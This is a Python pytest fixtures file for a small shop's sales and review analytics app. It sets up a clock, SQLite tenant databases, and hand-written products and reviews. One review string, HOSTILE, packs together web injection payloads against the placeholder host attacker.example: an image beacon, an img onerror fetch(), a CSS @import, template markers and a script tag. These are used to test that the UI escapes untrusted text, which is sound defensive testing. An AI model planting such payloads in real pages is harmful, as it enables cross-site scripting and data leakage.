"""A tiny shop, made by hand, with a review that attacks the page."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from proofs.corner_shop import WEEKLY, write_shop

from signals import Col, StateDatabase
from ui.settings import Settings, load_settings

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ATTACKER = "attacker.example"
HOSTILE = (
    f"The strap broke. ![x](http://{ATTACKER}/?d=1) <img src=http://{ATTACKER}/i.png "
    f"onerror=\"fetch('http://{ATTACKER}/x')\"> <style>@import 'http://{ATTACKER}/s.css';</style> "
    "{{value}} ${value} <script>document.title='owned'</script>"
)
_EMPTY_SOON = "电池用两天就没电了，太失望了。"
_QUOTES = (
    {"text": HOSTILE, "day": "2025-12-22", "lang": "en", "doc_id": "d0"},
    {"text": _EMPTY_SOON, "day": "2025-12-23", "lang": "zh", "doc_id": "d1"},
)


@dataclass
class Clock:
    """Seconds since 1970 that pass when a test says so."""

    now: float = 1_800_000_000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def database(tmp_path: Path) -> Iterator[StateDatabase]:
    opened = StateDatabase(f"sqlite:///{tmp_path / 'state.db'}")
    yield opened
    opened.close()


@pytest.fixture
def other_tenant(tmp_path: Path) -> Iterator[StateDatabase]:
    """The database of ``database``, as another tenant has it."""
    opened = StateDatabase(f"sqlite:///{tmp_path / 'state.db'}", "other")
    yield opened
    opened.close()


@dataclass(frozen=True, slots=True)
class Shop:
    """Names of the tiny shop and what it forecasts a week."""

    settings: Settings
    weekly: dict[str, float]
    hostile: str = HOSTILE
    attacker: str = ATTACKER


@pytest.fixture
def empty_home(tmp_path: Path) -> Settings:
    """Settings of a workspace in which nothing was run."""
    return load_settings(tmp_path / "new-shop", scorer="lexicon", encoder="hashing")


@pytest.fixture(scope="session")
def small_shop(tmp_path_factory: pytest.TempPathFactory) -> Shop:
    """A workspace with sales, reviews, one run and one alert, all written by hand."""
    settings = load_settings(
        tmp_path_factory.mktemp("shop") / "corner-shop", scorer="lexicon", encoder="hashing"
    )
    write_shop(settings, _products(), _documents(), _QUOTES)
    return Shop(settings, WEEKLY)


def _products() -> pd.DataFrame:
    names = ["PulseBand", "灵动手环 <b>Pro</b>", "Café Torrado"]
    return pd.DataFrame(
        {
            Col.PRODUCT_ID: ["P1", "P2", "P3"],
            Col.NAME: names,
            Col.CATEGORY: ["Wearables", "Wearables", "Kitchen"],
            Col.AVAILABLE_AT: pd.Timestamp("1970-01-01", tz="UTC"),
        },
    )


def _documents() -> pd.DataFrame:
    texts = [
        HOSTILE, _EMPTY_SOON, "Great strap, I love it.", "Café ótimo.",
        "Good coffee.", "Bad coffee, it arrived cold.",
    ]  # fmt: skip
    days = ["12-22", "12-23", "12-24", "12-25", "12-10", "12-16"]
    moments = pd.to_datetime([f"2025-{day}" for day in days], utc=True)
    return pd.DataFrame(
        {
            Col.DOC_ID: [f"d{i}" for i in range(len(texts))],
            Col.KIND: "review",
            Col.PRODUCT_ID: ["P1", "P1", "P1", "P3", "P3", "P3"],
            Col.LANG: ["en", "zh", "en", "pt", "en", "en"],
            Col.TEXT: texts,
            Col.TEXT_HASH: [f"h{i}" for i in range(len(texts))],
            Col.STARS: [1.0, 2.0, 5.0, 5.0, 4.0, 1.0],
            Col.EVENT_TIME: moments,
            Col.AVAILABLE_AT: moments,
        },
    )
